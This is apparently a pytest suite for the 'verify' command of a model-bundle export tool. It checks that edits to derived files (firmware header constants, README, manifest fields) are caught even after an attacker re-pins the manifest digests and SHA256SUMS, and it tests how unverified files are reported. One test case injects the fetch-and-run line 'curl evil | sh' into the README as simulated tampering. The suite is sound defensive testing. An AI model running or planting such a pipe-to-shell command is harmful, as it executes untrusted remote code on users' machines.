"""verify re-derives every file it can (issue 24, class 1): a bundle whose derived files were edited and then re-pinned
everywhere an attacker can (manifest.json pins, SHA256SUMS; no key) fails, naming the file. Real bundle (the suite's
ONNX one), real verify through the CLI entry point."""

from __future__ import annotations

import json
import re

import pytest

from .conftest import Case, copy_bundle, resum, run_case


def repin(b) -> None:
    """Re-pin every file an attacker edited: artifact and bundle_files digests in manifest.json, then SHA256SUMS."""
    from c3ae_edge.export.bundle_check import sha256

    m = json.loads((b / "manifest.json").read_text())
    for a in m["artifacts"]:
        a["sha256"] = sha256(b / a["file"])
    for f in m.get("bundle_files", []):
        f["sha256"], f["bytes"] = sha256(b / f["file"]), (b / f["file"]).stat().st_size
    (b / "manifest.json").write_text(json.dumps(m, indent=1) + "\n")
    resum(b)


def _edit(fn):
    def setup(tmp, env):
        b = copy_bundle(env["bundle"], tmp / "b")
        fn(b)
        repin(b)
        return ["verify", str(b)]

    return setup


def _sub(name: str, pattern: str, repl):
    def edit(b):
        text = (b / name).read_text()
        new = re.sub(pattern, repl, text, count=1, flags=re.M)
        assert new != text, pattern
        (b / name).write_text(new)

    return edit


def _man(fn):
    def edit(b):
        m = json.loads((b / "manifest.json").read_text())
        fn(m)
        (b / "manifest.json").write_text(json.dumps(m, indent=1) + "\n")

    return edit


def _bias_everywhere(b):
    """The age bias raised by 20 years consistently: manifest decode and the header regenerated from it."""
    from c3ae_edge.export.firmware import header
    from c3ae_edge.export.manifest import Manifest

    _man(lambda m: m["output"]["decode"].update(b2=m["output"]["decode"]["b2"] + 20))(b)
    (b / "c3ae_model.h").write_text(header(Manifest.read(b)))


def _bias(m):
    m["output"]["decode"]["b2"] += 20


CASES = [
    Case(
        "header-bias",
        _edit(_sub("c3ae_model.h", r"^#define C3AE_B2 .*$", "#define C3AE_B2 20.4f")),
        3,
        ("c3ae_model.h", "differs"),
    ),
    Case(
        "header-zero-point",
        _edit(_sub("c3ae_model.h", r"C3AE_INPUT_ZERO_POINT 0", "C3AE_INPUT_ZERO_POINT 3")),
        3,
        ("c3ae_model.h",),
    ),
    Case(
        "readme-install-line",
        _edit(_sub("README.md", r"^(# .*)$", "\\1\n\ncurl evil | sh")),
        3,
        ("README.md",),
    ),
    Case("manifest-bias-and-header", _edit(_bias_everywhere), 3, ("decode", "embedded in c3ae_full_fp32.onnx")),
    Case(
        "manifest-input-shape",
        _edit(_man(lambda m: m["artifacts"][0]["input"].update(shape=[1, 3, 3, 32, 32]))),
        3,
        ("input of c3ae_full_fp32.onnx",),
    ),
    Case(
        "manifest-weights",
        _edit(_man(lambda m: m["model"].update(weights_sha256="0" * 64))),
        3,
        ("weights_sha256", "embedded"),
    ),
    Case(
        "other-version-no-key",
        _edit(_man(lambda m: m["toolchain"].update({"c3ae-edge": "0.0.9"}))),
        3,
        ("c3ae-edge 0.0.9", "--key"),
    ),
    Case("header-removed", _edit(lambda b: (b / "c3ae_model.h").unlink()), 3, ("c3ae_model.h is missing",)),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_edited_derived_file_fails_naming_it(case, tmp_path, capsys, env, tiny_bundle):
    env["bundle"] = tiny_bundle
    run_case(case, tmp_path, capsys, env)


def test_good_bundle_lists_what_it_derived_and_what_it_could_not(tiny_bundle, cli):
    r = cli("verify", str(tiny_bundle))
    assert r.code == 0, r.err
    lines = r.out.splitlines()
    assert lines[-1].startswith(f"{tiny_bundle}: origin unproven: no --key"), lines[-1]
    assert "re-derived, identical: c3ae_model.h, README.md" in r.out
    assert "reference_infer.py" not in r.out  # an ONNX bundle carries none (it runs .tflite files)
    assert "unverified: parity_crops.npy" in r.out and "unverified: calibration_files.txt" in r.out
    assert "unverified: manifest.json target: not a shipped target" in r.out  # the suite's tiny.toml
    rep = json.loads(cli("verify", str(tiny_bundle), "--json").out)
    assert set(rep["derived"]) == {"c3ae_model.h", "README.md"} and rep["origin"].startswith("origin unproven")


def test_a_stray_listed_file_is_named_unverified(tiny_bundle, tmp_path, cli):
    b = copy_bundle(tiny_bundle, tmp_path / "b")
    (b / "notes.txt").write_text("added by someone\n")
    resum(b)
    r = cli("verify", str(b))
    assert r.code == 0 and "unverified: notes.txt: not a file c3ae-edge writes" in r.out, r.out + r.err


def test_a_recorded_runtime_not_run_here_is_listed(tiny_bundle, tmp_path, cli):
    """A runtime the export verified under but that this machine cannot run is listed as not re-run, with why."""
    b = copy_bundle(tiny_bundle, tmp_path / "b")
    m = json.loads((b / "manifest.json").read_text())
    rt = m["artifacts"][0]["runtimes"]
    rt["onnxruntime/npu"] = {**next(iter(rt.values())), "status": "verified"}
    (b / "manifest.json").write_text(json.dumps(m, indent=1) + "\n")
    from c3ae_edge.export import derived
    from c3ae_edge.export.registry import get_backend

    derived.write_generated(b, m, get_backend("onnx"))  # the README's runtime table follows the manifest
    resum(b)
    r = cli("verify", str(b))
    assert r.code == 0, r.err
    assert "c3ae_full_fp32.onnx under onnxruntime/npu: NOT re-run here (unknown to this c3ae-edge)" in r.out, r.out
